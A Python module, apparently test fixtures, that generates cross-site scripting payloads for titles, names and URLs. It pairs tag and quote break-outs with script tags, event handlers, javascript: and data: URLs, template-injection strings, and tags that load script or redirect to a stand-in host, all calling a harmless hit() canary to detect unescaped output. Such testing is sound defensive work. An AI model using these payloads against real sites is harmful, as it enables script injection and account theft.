"""Texts that run as a script wherever something forgets to escape them.

Each calls ``hit(number)`` if it runs: the number tells which one did.
"""

from __future__ import annotations

from itertools import product

LONGEST = 110
"""The shortest of the columns that hold them takes 120 characters."""

_WAYS_OUT = (
    "", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", "</a>", '"/>', "`>",
    "</style>", "</option></select>", "\\\">", "</li></ul>", "%22%3E", "&quot;&gt;", "</svg>",
)  # fmt: skip
_SCRIPTS = (
    "<script>hit({n})</script>",
    "<ScRiPt>hit({n})</sCrIpT>",
    "<img src=x onerror=hit({n})>",
    '<svg onload="hit({n})">',
    "<svg><script>hit({n})</script>",
    "<details open ontoggle=hit({n})>",
    "<input autofocus onfocus=hit({n})>",
    "<iframe srcdoc='<script>parent.hit({n})</script>'>",
    "<math><mtext><img src=x onerror=hit({n})>",
    "<video><source onerror=hit({n})></video>",
    "<style>@import'//outside.test/{n}.css';</style>",
    "<script src=//outside.test/{n}.js></script>",
    '<base href="//outside.test/{n}/">',
    "<link rel=stylesheet href=//outside.test/{n}>",
    '<meta http-equiv=refresh content="0;url=//outside.test/{n}">',
)
_ATTRIBUTES = (
    '" onmouseover="hit({n})" x="',
    "' autofocus onfocus='hit({n})",
    '" style="background:url(//outside.test/{n})',
    "{{{{ hit({n}) }}}}{{% debug %}}",
    "${{hit({n})}}",
)
_ADDRESSES = (
    "javascript:hit({n})",
    "JaVaScRiPt:hit({n})",
    "\tjavascript:hit({n})",
    "java\nscript:hit({n})",
    "\x01javascript:hit({n})",
    "javascript://shop.test/%0Ahit({n})",
    "data:text/html,<script>hit({n})</script>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='hit({n})'/>",
    "vbscript:hit({n})",
    '" onerror="hit({n})',
    "'><img src=x onerror=hit({n})>",
    '/x?"><script>hit({n})</script>',
)


def texts() -> list[str]:
    """Return payloads for titles, names and the like, all different."""
    patterns = [before + script for before, script in product(_WAYS_OUT, _SCRIPTS)]
    made = [each.format(n=number) for number, each in enumerate([*_ATTRIBUTES, *patterns])]
    return [each for each in made if len(each) <= LONGEST]


def addresses() -> list[str]:
    """Return payloads for addresses of pages and pictures, all different."""
    return [each.format(n=1000 + number) for number, each in enumerate(_ADDRESSES)]
